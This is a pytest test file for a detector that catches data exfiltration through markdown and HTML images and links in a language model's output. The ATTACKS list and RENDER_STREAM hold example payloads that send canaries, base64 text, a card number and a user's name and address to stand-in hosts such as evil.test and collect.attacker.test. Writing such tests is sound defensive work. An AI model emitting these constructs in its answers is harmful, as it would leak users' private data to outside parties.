"""The rendering-exfiltration detector fed directly (no gateway): data carried off in markdown and
HTML images and links, on attacks and on benign markdown that looks like them, the same however
a stream is cut; and the bounded per-exchange notes it shares with secret-leakage."""

from __future__ import annotations

import json

import pytest

from advmatrix.detect.credentials import SecretLeakage
from advmatrix.detect.rendering import RenderingExfiltration

from ._output_helpers import _event, _first_alert_piece, _same_findings, _secret_findings, _splits, _stream, _whole

ATTACKS = [
    ("image", "![status](https://collect.attacker.test/p.png?d=CNRY7F3A9B21C4)"),
    ("image", "![](https://collect.attacker.test/ZX-5e0c9a71bd.png)"),                    # data in the path
    ("image", "![x](https://zx5e0c9a71bd3f.collect.attacker.test/pixel.gif)"),            # data in a subdomain
    ("image", '<img src="https://evil.test/i?c=bXkgY2FyZCBpcyA0MTExIDExMTE=" width="1">'),  # base64 text
    ("image", "<IMG SRC=https://evil.test/i?n=4111111111111111>"),                          # a card number
    ("image", "![logo][1]\n\n[1]: https://evil.test/l.png?s=Q7xK2mZ9vL4pN8rT"),             # reference style
    ("link", "[Click to verify your account](https://evil.test/v?msg=my+name+is+Alice+Moreau)"),
    ("link", '<a href="https://evil.test/go?q=alice%20lives%20at%2014%20Larch%20Lane">details</a>'),
    ("link", "[docs](https://evil.test/a?t=QWxpY2UgTW9yZWF1LCA0MTEx)"),                      # base64 text in a link
    ("image", "![](https://evil.test/c.gif?v=ZX-180868c532)"),                               # the demo's canary form
    ("image", "![](https://evil.test/c.gif?v=SM9TQ2XVBR7KLP4W)"),                            # base-32, few vowels
]


@pytest.mark.parametrize(("kind", "text"), ATTACKS, ids=range(len(ATTACKS)))
def test_rendering_exfiltration_is_found_with_the_span_of_the_whole_construct(kind, text):
    answer = f"Thanks for waiting.\n{text}\nAnything else?"
    (alert,) = _whole(RenderingExfiltration(allowed_hosts=["docs.example.com"]), answer)
    assert alert.technique_ids == ("AML.T0077",) and alert.evidence["kind"] == kind
    assert alert.severity == ("high" if kind == "image" else "medium")
    assert alert.evidence["host"].endswith(("attacker.test", "evil.test"))
    spans = alert.evidence["spans"]
    construct = text.split("\n")[0]
    if construct.startswith("<a"):
        construct = construct[:construct.index(">") + 1]  # the opening tag: the link text stays, inert
    assert answer[spans[0][0]:spans[0][1]] == construct


def test_reference_definitions_pair_with_their_uses_in_either_order():
    det = RenderingExfiltration()
    use, definition = "![chart][data]", "[DATA]: https://evil.test/c.png?v=Q7xK2mZ9vL4pN8rT"
    for text in (f"{use}\n\n{definition}\n", f"{definition}\n\nSee {use}.\n"):
        (alert,) = _whole(det, text)
        assert sorted(text[s:e] for s, e in alert.evidence["spans"]) == sorted([use, definition])
    assert _whole(det, f"{definition}\n\nno use of it\n") == []  # a definition alone renders nothing


def test_a_url_longer_than_the_window_is_cut_and_counts_as_data():
    text = "![a](https://evil.test/x.png?d=" + "A" * 3000 + ")"
    (alert,) = _whole(RenderingExfiltration(), text)
    assert alert.evidence["items"][0]["data"] == "long"
    (span,) = alert.evidence["spans"]
    assert span[0] == 0 and span[1] > 1000 and len(alert.evidence["url"]) <= 200


BENIGN_MARKDOWN = [
    "See the [returns guide](https://docs.example.com/returns?ref=chat-widget-2024) and "
    "![diagram](https://docs.example.com/img/flow.png?token=Q7xK2mZ9vL4pN8rT).",  # allowed host carrying data
    "![banner](https://cdn.docs.example.com/banner-2024-spring.png)",               # an allowed subdomain
    "Read [CSRF](https://en.wikipedia.org/wiki/Cross-site_request_forgery) or [the RFC](https://www.rfc-editor.org/"
    "rfc/rfc9110.html#section-15.5.4).",
    "The fix is [3f2a9c1](https://github.com/acme/kettle/commit/3f2a9c1e5b7d4f6a8c0e2b4d6f8a0c2e4b6d8f0a).",
    "![Kettle](https://images.shop.test/products/kettle-steel-1-7l.jpg) ![logo](https://cdn.shop.test/logo-dark.svg)",
    "[Orders page](/account/orders) and [email us](mailto:help@example-support.test?subject=Order%20question).",
    "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
    "```js\nconst el = `<img src=\"${url}\">`; // [1]\nx = arr[i](y);\n```\nA checkbox [x] and a citation [2].",
    "Track it at [the carrier](https://track.parcels.test/?id=LK104822931GB#details).",
    "[docs](https://wiki.example.org/page?id=Q7xK2mZ9vL4pN8rT) — a link with an ID needs a click and carries no text",
    "![phone](https://cdn.shop.test/iphone15promax2023.jpg) ![laptop](https://cdn.shop.test/MacBookPro2024M3.png) "
    "![shot](https://img.test/Screenshot2024-05-01at10.20.30.png) ![cam](https://img.test/IMG_20240501_102030.jpg)",
]


@pytest.mark.parametrize("text", BENIGN_MARKDOWN, ids=range(len(BENIGN_MARKDOWN)))
def test_rendering_exfiltration_is_quiet_on_benign_markdown(text):
    assert _whole(RenderingExfiltration(allowed_hosts=["docs.example.com"]), text) == []


def test_rendering_settings_and_evidence():
    link = "[a](https://evil.test/v?msg=my+name+is+Alice+Moreau)"
    assert _whole(RenderingExfiltration(links=False), link) == []
    assert _whole(RenderingExfiltration(allowed_hosts=["EVIL.test"]), link) == []
    (alert,) = _whole(RenderingExfiltration(), "![s](https://collect.attacker.test/p.png?d=CNRY7F3A9B21C4)")
    assert "CNRY7F3A9B21C4" not in json.dumps(alert.evidence) and "CNRY…" in alert.evidence["url"]
    (alert,) = _whole(RenderingExfiltration(), "![](https://ZX5E0C9A71BD3F.collect.attacker.test/pixel.gif)")
    assert "9a71bd" not in json.dumps(alert.evidence).lower()
    (alert,) = _whole(RenderingExfiltration(), "![a](https://evil.test/x.png?d=" + "Q7xK2mZ9" * 300 + ")")
    assert "Q7xK2mZ9" not in json.dumps(alert.evidence)
    assert RenderingExfiltration.response == {"action": "neutralise"}


def test_per_exchange_state_is_bounded():
    det = RenderingExfiltration()
    event = _event()
    text = " ".join(f"![i{i}][r{i}]" for i in range(500)) + "\n" + "\n".join(f"[r{i}]: /local/{i}" for i in range(500))
    assert _stream(det, text, list(range(0, len(text), 50)), event) == []
    refs = event.notes["rendering-exfiltration"]
    assert len(refs.uses) <= 64 and len(refs.defs) <= 64
    assert len(refs.done.keys) <= det.window // 8  # the constructs that fit in one window, not all 1000
    secrets = SecretLeakage()
    text = " ".join(f"card 4111 1111 1111 1111 key sk-live-{i:04d}aB3dE5gH7jK9mN1pQ3sT5vX" for i in range(300))
    event = _event()
    alerts = _stream(secrets, text, list(range(0, len(text), 7)), event)
    assert len(_secret_findings(alerts)) == 600 and len(event.notes["secret-leakage"].keys) <= 64


RENDER_STREAM = (
    "Here is your summary ![s](https://collect.attacker.test/p.png?d=CNRY7F3A9B21C4) and the "
    "[guide](https://docs.example.com/guide?ref=Q7xK2mZ9vL4pN8rT). Also ![logo][lg] and "
    '<img src="https://evil.test/i?c=bXkgY2FyZCBpcyA0MTExIDExMTE=">, [plain](https://example.org/about).\n\n'
    "[lg]: https://evil.test/l.png?s=Q7xK2mZ9vL4pN8rT\n"
    "[Verify](https://evil.test/v?msg=my+name+is+Alice+Moreau)"
)


def _render_findings(alerts) -> tuple[list, list]:
    return sorted((i["kind"], i["host"]) for a in alerts for i in a.evidence["items"]), \
        sorted(("", tuple(s)) for a in alerts for s in a.evidence["spans"])


def test_rendering_exfiltration_is_the_same_however_the_stream_is_cut():
    det = RenderingExfiltration(allowed_hosts=["docs.example.com"])
    items, spans = _render_findings(_whole(det, RENDER_STREAM))
    assert len(items) == 4 and len(spans) == 5  # the reference image has two spans
    for cuts in _splits(RENDER_STREAM):
        for extra in (0, 3000):
            got_items, got_spans = _render_findings(_stream(det, RENDER_STREAM, cuts, extra=extra))
            assert got_items == items, cuts
            # a reference definition whose URL already carries data is acted on before it ends
            _same_findings(got_spans, spans, cuts)


@pytest.mark.parametrize(("detector", "leak"), [
    (RenderingExfiltration(), "![s](https://collect.attacker.test/p.png?d=CNRY7F3A9B21C4)"),
], ids=["image"])
def test_a_leak_is_caught_in_the_piece_that_completes_it_before_it_is_forwarded(detector, leak):
    text = "Here it is: " + leak + ". More text follows."
    end = text.index(leak) + len(leak)
    assert _first_alert_piece(detector, text, [end]) == 0  # not one character of the rest needed
    assert _first_alert_piece(detector, text, [end - 1, end]) in (0, 1)
